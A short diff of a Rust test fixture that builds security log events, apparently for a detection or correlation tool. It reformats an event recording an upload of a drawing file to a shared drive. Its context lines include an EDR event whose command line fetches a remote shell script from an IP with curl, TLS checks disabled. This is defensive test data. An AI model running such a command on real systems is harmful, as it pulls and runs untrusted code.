@@ -38,7 +38,8 @@ fn log() -> [StoredEvent; 3] {
     web.subject = Some("https://drive.example/up?x=1".into());
     web.remote_ip = Some("192.0.2.77".into());
     web.remote_port = Some(443);
-    let web = web.with("title", "共有ドライブ").with("size", 2_500).with("parts", serde_json::json!([{"name": "図面.dwg"}]));
+    let web =
+        web.with("title", "共有ドライブ").with("size", 2_500).with("parts", serde_json::json!([{"name": "図面.dwg"}]));
     let mut start = Event::new("2026-11-23T02:59:00Z".parse().unwrap(), "edr", "process.start");
     start.image = Some("/usr/bin/curl".into());
     start.command_line = Some("curl -k https://198.51.100.9/a.sh".into());
